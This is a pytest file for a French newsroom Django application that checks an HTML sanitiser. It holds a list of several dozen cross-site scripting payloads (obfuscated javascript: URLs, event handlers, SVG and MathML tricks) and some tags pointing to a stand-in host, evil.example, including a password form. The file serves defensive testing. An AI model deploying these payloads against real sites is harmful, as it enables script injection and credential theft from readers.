"""The body is sanitised on save: nothing hostile survives, legitimate newsroom markup does."""

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from articles.models import Article
from articles.roles import EDITOR
from articles.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_CLASSES, ALLOWED_TAGS, ALLOWED_URL_SCHEMES, sanitize_html
from tests.articles.helpers import post_change
from tests.factories import make_article, make_user

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<p onclick="alert(1)">clic</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>défile</marquee>",
    '<h2 id="x" class="evil" onfocus=alert(1) tabindex=0 autofocus>Intertitre</h2>',
    '<a href="https://ok.example" target="_blank" onmouseover="alert(1)">lien</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="  data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="javascript:alert(1)">',
    '<blockquote cite="javascript:alert(1)">citation</blockquote>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">faux écran</div>',
    '<img src="x" style="width:expression(alert(1))">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name="mot-de-passe"><button>OK</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>-->",
    "<isindex action=javascript:alert(1) type=image>",
    '<p>texte <b>gras <i>non fermé <a href="javascript:alert(1)">',
]

URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "srcset", "data", "xlink:href"}


class _Collect(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(html):
    parser = _Collect()
    parser.feed(html)
    parser.close()
    return parser.found


def assert_safe(html):
    lowered = html.lower()
    for needle in ("<script", "<style", "<svg", "<iframe", "<object", "<embed", "<form", "<meta", "<base", "<link"):
        assert needle not in lowered, html
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs:
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel", "class"}, (tag, name, html)
            assert not name.startswith("on"), html
            if name == "class":
                assert set(value.split()) <= ALLOWED_CLASSES.get(tag, set()), html
            if name in URL_ATTRIBUTES:
                scheme = urlsplit(value.strip()).scheme.lower()
                assert scheme in ALLOWED_URL_SCHEMES or scheme == "", (value, html)


@pytest.mark.parametrize("snippet", HOSTILE)
def test_hostile_snippet_does_not_survive(snippet):
    cleaned = sanitize_html(snippet)
    assert_safe(cleaned)
    assert sanitize_html(cleaned) == cleaned  # stable: a second pass finds nothing more to remove


# Only the snippets that still hold a link once cleaned can tell whether links get their rel.
LINKS = [
    '<a href="https://example.org/" rel="opener">lien</a>',
    '<a href="https://example.org/" target="_blank">lien</a>',
    '<p><a href="http://example.org/" rel="nofollow" onclick="x()">lien</a></p>',
    *(s for s in HOSTILE if "<a" in sanitize_html(s)),
]


@pytest.mark.parametrize("snippet", LINKS)
def test_links_get_rel(snippet):
    links = [dict(attrs) for tag, attrs in elements(sanitize_html(snippet)) if tag == "a"]
    assert links
    assert all(link.get("rel") == "noopener noreferrer" for link in links)


LEGITIMATE = [
    "<h2>L’Europe et l’Asie, une intersection franco-kazakhe</h2>",
    "<h3>Un sous-intertitre</h3>",
    "<p><strong>Astana</strong> et <i>Tachkent</i>, <em>Bichkek</em>.</p>",
    '<p>Selon <a href="https://www.afp.com/fr" rel="noopener noreferrer">l’AFP</a>.</p>',
    "<blockquote><p>« Nous voulons une coopération d’égal à égal », a-t-il déclaré.</p></blockquote>",
    "<ul><li>Uranium</li><li>Hydrocarbures</li></ul>",
    '<ol start="3"><li>troisième</li></ol>',
    '<figure class="image"><img src="/media/articles/body/2026/11/astana.jpg" alt="Astana de nuit">'
    "<figcaption>Astana, la capitale kazakhe.</figcaption></figure>",
    "<p>Emmanuel Macron\u00a0: «\u00a0un partenaire essentiel\u00a0».</p>",
    '<p><a href="mailto:redaction@example.org" rel="noopener noreferrer">Écrire à la rédaction</a></p>',
]


@pytest.mark.parametrize("snippet", LEGITIMATE)
def test_legitimate_markup_survives_unchanged(snippet):
    assert sanitize_html(snippet) == snippet


@pytest.mark.django_db
def test_model_save_sanitises_whatever_the_caller(client):
    article = make_article(body="<p>Bonjour</p>" + "".join(HOSTILE))
    stored = Article.objects.get(pk=article.pk).body
    assert stored.startswith("<p>Bonjour</p>")
    assert_safe(stored)


@pytest.mark.django_db
def test_raw_admin_post_is_sanitised(client):
    editor = make_user(groups=[EDITOR])
    client.force_login(editor)
    article = make_article()
    body = '<h2>Intertitre</h2><p onclick="alert(1)">Texte <a href="javascript:alert(1)">piégé</a></p>' + "".join(
        HOSTILE
    )
    response = post_change(client, article, body=body)
    assert response.status_code == 302
    stored = Article.objects.get(pk=article.pk).body
    assert stored.startswith('<h2>Intertitre</h2><p>Texte <a rel="noopener noreferrer">piégé</a></p>')
    assert_safe(stored)
